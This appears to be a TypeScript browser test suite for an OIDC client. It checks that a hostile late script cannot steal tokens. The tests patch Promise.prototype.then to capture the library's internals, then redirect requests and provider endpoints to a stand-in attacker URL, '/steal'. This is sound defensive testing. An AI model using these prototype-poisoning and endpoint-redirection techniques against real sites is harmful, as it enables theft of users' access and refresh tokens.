// Browser tests: a late script that gets hold of the engine itself, or of what it knows of the provider, still moves no token.
import { expect, openSignedIn, signOut, test, type Tab } from './fixtures.ts'

/** Installs a `then` that keeps every value that a promise of the page is fulfilled with. */
function spyOnPromises(tab: Tab): Promise<void> {
  return tab.evaluate(() => {
    const loot: unknown[] = []
    const original = Promise.prototype.then
    void Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, get: () => undefined })
    Promise.prototype.then = function then(this: Promise<unknown>, ...rest: [never, never]) {
      void original.call(
        this,
        (value: unknown) => loot.push(value),
        () => undefined,
      )
      return original.apply(this, rest) as never
    }
    Object.assign(window, { loot })
  })
}

test('the engine, called with a request of the script, sends nothing elsewhere and shows no header', async ({
  tab,
  api,
  evil,
}) => {
  expect(await openSignedIn(tab)).toMatchObject({ status: 'signed-in' })
  await spyOnPromises(tab)
  const seen = await tab.evaluate(
    async ([elsewhere, listed]) => {
      await window.oidc.fetch(`${listed}orders`)
      const loot = (window as unknown as { loot: unknown[] }).loot
      const engine = loot.find((value) => typeof value === 'object' && value !== null && 'redeem' in value)
      const call = (engine as { fetch: (snapshot: object) => Promise<Response> } | undefined)?.fetch
      const send = async (url: string) => {
        const request = new Request(url)
        const answer = await call?.({ request, url, method: 'GET', again: () => undefined }).then(
          ({ status }) => String(status),
          String,
        )
        return { answer, header: request.headers.get('authorization') }
      }
      return { found: Boolean(engine), foreign: await send(elsewhere), own: await send(`${listed}orders`) }
    },
    [`${evil.origin}/steal`, `${api.origin}/`] as [string, string],
  )
  // Positive control: the script did get the engine, and the engine does call a listed resource.
  expect(seen.found).toBe(true)
  expect(seen.own).toEqual({ answer: '200', header: null })
  expect(seen.foreign.header).toBe(null)
  expect(seen.foreign.answer).toContain('OidcError')
  expect(evil.log).toEqual([])
})

test('a script that moves the endpoints gets neither refresh token nor revocation', async ({
  tab,
  op,
  api,
  evil,
}) => {
  op.switches.accessToken.lifetime = 3600
  expect(await openSignedIn(tab)).toMatchObject({ status: 'signed-in' })
  await spyOnPromises(tab)
  const moved = await tab.evaluate(async (elsewhere) => {
    await window.oidc.userInfo()
    const loot = (window as unknown as { loot: unknown[] }).loot
    const providers = loot.filter(
      (value) => typeof value === 'object' && value !== null && 'keySet' in value,
    ) as unknown[] as { metadata: Record<string, string> }[]
    for (const { metadata } of providers) {
      for (const name of ['token_endpoint', 'revocation_endpoint', 'userinfo_endpoint'])
        metadata[name] = elsewhere
    }
    return providers.length
  }, `${evil.origin}/steal`)
  // Positive control: the script did reach what the engine knows of the provider.
  expect(moved).toBeGreaterThan(0)
  api.rejectNext(1)
  const status = await tab.evaluate(
    async (url) => (await window.oidc.fetch(url)).status,
    `${api.origin}/orders`,
  )
  expect([status, op.count('refresh')]).toEqual([200, 1])
  expect(await tab.evaluate(() => window.oidc.userInfo().then(() => 'answered', String))).toContain(
    'OidcError',
  )
  await signOut(tab, { local: true })
  expect(op.count('revocation')).toBe(1)
  expect(evil.log).toEqual([])
})
